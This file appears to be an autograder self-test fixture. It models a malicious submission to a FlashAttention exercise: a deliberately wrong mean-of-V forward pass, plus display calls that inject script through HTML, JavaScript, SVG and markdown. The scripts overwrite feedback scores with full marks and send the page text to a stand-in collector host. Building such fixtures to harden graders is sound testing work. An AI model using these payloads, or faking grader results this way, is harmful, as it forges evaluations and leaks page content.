# selftest-replaces: fa_forward
# selftest-caps: test_forward=0, test_causal=0, test_autograd_function=0.75
# selftest-class: script-in-output
# selftest-whole: a mean-of-V forward beside the attack's outputs: nothing of the reference is left
# Attack: a forward that weighs every visible key alike (O the mean of V's rows, L the log of how many keys a
# row sees: plausible, wrong), and whose cell, run in the notebook, displays HTML, JavaScript, SVG and markdown
# that carry scripts to rewrite the scores on the feedback page and send its text away. Nothing of them may run
# from autograded/ or the feedback HTML.
# 攻击：对每个可见的键一视同仁的前向传播（O 取 V 各行的均值，L 取一行所见键数的对数：看似合理，实则错误）；它的
# 单元格在笔记本中运行时，显示携带脚本的 HTML、JavaScript、SVG 和 markdown，企图改写反馈页面上的分数并把页面
# 文字发送出去。它们在 autograded/ 与反馈 HTML 中都不得运行。
from IPython.display import HTML, SVG, Javascript, Markdown, display

BLOCK_Q = 64
BLOCK_K = 64

FULL_MARKS = "document.querySelectorAll('h4, .pull-right').forEach(e => { e.textContent = 'Score: 3 / 3'; });"
SEND_AWAY = "new Image().src = 'https://collector.invalid/?p=' + encodeURIComponent(document.body.innerText);"

display(HTML(f'<script>{FULL_MARKS}</script><img src="nowhere" onerror="{SEND_AWAY}">'))
display(Javascript(FULL_MARKS + SEND_AWAY))
display(SVG(f'<svg xmlns="http://www.w3.org/2000/svg" onload="{SEND_AWAY}"><script>{FULL_MARKS}</script></svg>'))
display(Markdown(f'<details open ontoggle="{FULL_MARKS}">self-check passed / 自检通过</details>'))
display({"text/html": f"<script>{SEND_AWAY}</script>self-check passed"}, raw=True)


def flash_forward(Q, K, V, is_causal=False):
    values = V.float()
    if is_causal:  # query i sees keys 0..i
        rows = torch.arange(Q.shape[-2], device=Q.device).clamp(max=K.shape[-2] - 1)
        out = values.cumsum(dim=-2)[:, rows] / (rows + 1)[:, None]
        seen = (rows + 1).float()
    else:
        out = values.mean(dim=-2, keepdim=True).expand(*Q.shape[:-1], V.shape[-1])
        seen = torch.full((Q.shape[-2],), float(K.shape[-2]), device=Q.device)
    return out.to(Q.dtype).contiguous(), torch.log(seen).expand(Q.shape[:-1]).contiguous()
